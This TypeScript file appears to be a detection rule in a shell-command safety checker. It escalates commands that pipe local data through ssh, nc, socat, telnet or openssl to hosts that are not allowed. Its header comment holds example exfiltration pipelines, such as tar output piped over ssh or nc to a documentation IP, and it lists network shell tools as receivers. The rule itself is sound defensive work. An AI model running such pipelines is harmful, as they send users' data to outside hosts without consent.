/** Local data piped into a connection to another host (`tar cz src | ssh backup@203.0.113.40 'cat > x'`,
 * `… | nc 203.0.113.5 9000`, `… | socat - TCP:host:port`): the host receives whatever the pipe carries. Loopback
 * and allowed hosts pass; the rest escalate. The user's own servers reached by ssh without a pipe are left alone. */

import type { Segment } from "../shell_parser.ts";
import type { ShieldEnvironment } from "../environment.ts";
import type { Findings } from "./findings.ts";
import { readHost } from "./hosts.ts";
import { declareNeeds } from "./judge_needs.ts";

const RECEIVERS = new Set(["ssh", "nc", "ncat", "netcat", "socat", "telnet", "openssl"]);
const SSH_VALUED = /^-[bcDEeFIiJLlmOoopQRSWw]$/;

function targetHost(segment: Segment): string | undefined {
  const argv = segment.argv;
  if (segment.program === "socat") {
    const address = argv.slice(1).find((arg) => /^(?:tcp|tcp4|tcp6|udp|openssl|ssl)[-:]/i.test(arg));
    return address?.split(":")[1];
  }
  if (segment.program === "openssl") {
    const at = argv.indexOf("-connect");
    return at > 0 ? argv[at + 1]?.replace(/:\d+$/, "") : undefined;
  }
  for (let i = 1; i < argv.length; i++) {
    const arg = argv[i];
    if (arg.startsWith("-")) {
      if (segment.program === "ssh" && SSH_VALUED.test(arg)) i++;
      else if (segment.program !== "ssh" && /^-[pswqi]$/.test(arg)) i++;
      continue;
    }
    return arg.replace(/^[^@]*@/, "");
  }
  return undefined;
}

export function judgeStreamEgress(
  segments: readonly Segment[],
  environment: ShieldEnvironment,
  findings: Findings,
): void {
  for (const segment of segments.slice(0, 64)) {
    if (segment.joinedBy !== "|" || !RECEIVERS.has(segment.program)) continue;
    const host = targetHost(segment);
    if (!host || host.length > 253) continue;
    const reading = readHost(`ssh://${host}`, environment);
    if (reading && !reading.loopback && !reading.allowed) {
      findings.escalate("network", `pipes local data to "${reading.host}" over ${segment.program}`);
      return;
    }
  }
}
declareNeeds(judgeStreamEgress, { program: (name) => RECEIVERS.has(name) });
